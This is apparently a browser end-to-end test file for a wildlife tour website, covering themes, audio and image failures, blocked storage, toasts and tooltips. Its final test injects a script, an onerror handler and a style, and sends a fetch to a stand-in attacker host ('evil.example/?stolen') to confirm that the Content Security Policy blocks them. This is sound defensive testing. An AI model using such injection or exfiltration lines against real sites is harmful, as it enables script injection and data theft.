import type { Locator } from "playwright-core"
import { expect, test } from "vitest"
import {
	DESK,
	openPage,
	PHONE,
	pressTheme,
	settled,
	siteAndBrowser,
	visitor,
	visitorWithMessages,
	visitorWithWorker,
} from "#core/testing/browser.ts"

const here = siteAndBrowser()

test("the theme is the system's until a visitor chooses one, is then stored, and never flashes", async () => {
	const { page } = await visitor(here, { ...PHONE, colorScheme: "dark" })
	const background = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor)
	await page.goto("/")
	const dark = await background()
	await pressTheme(page)
	const light = await background()
	expect(light).not.toBe(dark)
	await page.route("**/*.js", (route) => route.abort())
	await page.goto("/blog", { waitUntil: "domcontentloaded" })
	expect(await background()).toBe(light)
	await pressTheme(page)
	expect(await background()).toBe(dark)
})

test("an audio guide that fails to load shows an error, and plays on the next press once there is a connection", async () => {
	const { page } = await visitor(here, PHONE)
	const play = page.getByRole("button", { name: "Play" })
	await page.route("**/media/*.mp3", (route) => route.abort())
	await page.goto("/species/1")
	await play.click()
	await page.getByText("Loading the audio…").waitFor()
	await page.getByText("The audio didn't load. Press Play to try again.").waitFor()
	await page.unroute("**/media/*.mp3")
	await play.click()
	await page.getByText("0:01 / 0:13").waitFor()
	expect(await page.getByText("The audio didn't load.").count()).toBe(0)
})

test("a picture that fails to load is replaced by the placeholder", async () => {
	// Otherwise the service worker's own request would load it.
	const { page } = await visitor(here, { ...PHONE, expectedErrors: /status of 404/ })
	await page.route("**/media/*.svg", (route) => route.fulfill({ status: 404, body: "" }))
	await page.goto("/species/2")
	await page.getByText("No image available").waitFor()
	expect(await page.locator("article img[alt=Bobolink]").count()).toBe(0)
})

test("pages work with broken or blocked storage", async () => {
	const { page, context } = await visitor(here, {
		...DESK,
		consent: false,
	})
	await context.addInitScript(() => {
		for (const name of ["localStorage", "sessionStorage"]) {
			Object.defineProperty(window, name, {
				configurable: true,
				get() {
					throw new DOMException("denied", "SecurityError")
				},
			})
		}
	})
	for (const path of ["/", "/tour", "/species/1", "/waiver", "/blog", "/auth", "/nope", "/offline"]) {
		await openPage(page, path)
		await pressTheme(page)
		if (path === "/tour")
			await page.getByRole("button", { name: /^(Begin Your Discovery|Continue)$/ }).waitFor()
	}
	await page.goto("/")
	await page.getByRole("link", { name: "Wildlife Tour", exact: true }).first().click()
	await page.getByRole("heading", { name: "Wildlife Tour", level: 1 }).waitFor()
	await page.goBack()
	await page.waitForURL("/")
	await page.getByRole("button", { name: "Accept All" }).click()
	await page.getByRole("region", { name: "Privacy" }).waitFor({ state: "hidden" })
})

test("only one toast is shown at once, it closes after five seconds, by its button and by a swipe, and F8 focuses it", async () => {
	const { page } = await visitor(here, {
		...DESK,
		permissions: ["clipboard-read", "clipboard-write"],
	})
	await page.clock.install()
	await openPage(page, "/species/3")
	const message = page.getByRole("region", { name: "Notifications (F8)" }).locator(".toast")
	const share = page.getByRole("button", { name: "Share" })
	await share.click()
	await message.waitFor()
	expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(`${here.site.address}/species/3`)
	await share.click()
	expect(await message.count()).toBe(1)
	await page.keyboard.press("F8")
	await expect
		.poll(() => page.evaluate(() => document.activeElement?.getAttribute("aria-label")))
		.toBe("Notifications (F8)")
	// Otherwise the time that a busy machine takes would count too.
	await page.clock.pauseAt(Date.now() + 60_000)
	// The toast stays while it has the focus, and closes five seconds after losing it.
	await page.clock.fastForward(9000)
	expect(await message.count()).toBe(1)
	await page.evaluate(() => (document.activeElement as HTMLElement).blur())
	await page.clock.fastForward(3000)
	expect(await message.count()).toBe(1)
	await page.clock.runFor(2100)
	await message.waitFor({ state: "detached" })

	await page.clock.resume()
	await share.click()
	await message.getByRole("button", { name: "Close the message" }).click()
	await message.waitFor({ state: "detached" })
	await share.click()
	await message.hover()
	const box = await message.boundingBox()
	const swipe = async (by: number) => {
		const [x, y] = [(box?.x ?? 0) + 5, (box?.y ?? 0) + 5]
		await page.mouse.move(x, y)
		await page.mouse.down()
		await page.mouse.move(x + by, y)
		await page.mouse.up()
	}
	for (const tooLittle of [40, -90]) {
		await swipe(tooLittle)
		await settled(page)
		expect(await message.count()).toBe(1)
	}
	await swipe(60)
	await message.waitFor({ state: "detached" })
})

test("a message on a phone covers no bar, no banner, no heading of a dialog, and not what was pressed", async () => {
	const { page } = await visitorWithMessages(here, {
		viewport: { width: 390, height: 664 },
		consent: false,
	})
	const message = page.locator(".toast")
	async function expectClear(...others: Locator[]) {
		await message.waitFor()
		await settled(page)
		const toast = await message.boundingBox()
		for (const other of others) {
			const box = await other.boundingBox()
			if (!toast || !box) throw new Error(`Not shown: ${other}`)
			expect(toast.y >= box.y + box.height || toast.y + toast.height <= box.y, String(other)).toBe(true)
		}
		await message.getByRole("button", { name: "Close the message" }).click()
	}
	await openPage(page, "/species/3")
	await page.waitForFunction(() => document.documentElement.style.getPropertyValue("--banner-height") !== "")
	const fixed = [
		page.getByRole("banner"),
		page.getByRole("region", { name: "Privacy" }),
		page.getByRole("navigation", { name: "Quick" }),
	]
	const share = page.getByRole("button", { name: "Share" })
	for (const y of [100, 380]) {
		await share.evaluate(
			(one, at) => scrollBy({ top: one.getBoundingClientRect().top - at, behavior: "instant" }),
			y,
		)
		await share.click()
		await expectClear(...fixed, share)
	}
	await openPage(page, "/tour?species=3")
	const dialog = page.getByRole("dialog")
	for (const pressed of [
		dialog.getByRole("button", { name: "Share" }),
		dialog.getByRole("button", { name: "Start Discovery Tour" }),
	]) {
		await pressed.click()
		await expectClear(dialog.getByRole("heading").first(), dialog.getByRole("link", { name: "Close" }))
	}
})

test("a tooltip shows a control's name while the pointer or the focus is on it, until Escape", async () => {
	const { page } = await visitor(here, DESK)
	await openPage(page, "/species/1")
	await page.getByText("0:00 / 0:13").waitFor()
	const mute = page.getByRole("button", { name: "Mute" })
	const tooltip = page.locator("[aria-hidden]", { hasText: /^Mute$/ })
	await mute.hover()
	await tooltip.waitFor()
	await page.mouse.move(0, 0)
	await tooltip.waitFor({ state: "detached" })
	await page.getByRole("slider", { name: "Position" }).focus()
	await page.keyboard.press("Tab")
	await tooltip.waitFor()
	await page.keyboard.press("Escape")
	await tooltip.waitFor({ state: "detached" })
})

test("injected scripts, handlers and styles do not run, and can't send data elsewhere", async () => {
	const { page } = await visitorWithWorker(here, {
		...DESK,
		expectedErrors: /Content Security Policy|status of 404/,
	})
	const reports: string[] = []
	page.on("console", (message) => reports.push(message.text()))
	await openPage(page, "/tour")
	const outcome = await page.evaluate(async () => {
		const run = (html: string) => {
			const part = document.createElement("div")
			part.innerHTML = html
			document.body.append(part)
		}
		const script = document.createElement("script")
		script.textContent = "window.wasRun = 'a script'"
		document.body.append(script)
		run('<img src="/nothing.png" onerror="window.wasRun = \'a handler\'">')
		run('<p id="styled" style="color: rgb(1, 2, 3)">styled</p>')
		const sent = await fetch("https://evil.example/?stolen").then(
			() => "sent",
			() => "not sent",
		)
		await new Promise((resolve) => requestAnimationFrame(() => requestIdleCallback(resolve)))
		const styled = document.getElementById("styled")
		return {
			wasRun: (window as { wasRun?: string }).wasRun,
			sent,
			color: styled && getComputedStyle(styled).color === "rgb(1, 2, 3)",
		}
	})
	expect(outcome).toEqual({ wasRun: undefined, sent: "not sent", color: false })
	expect(reports.filter((text) => /Content Security Policy/.test(text)).length).toBeGreaterThanOrEqual(4)
})
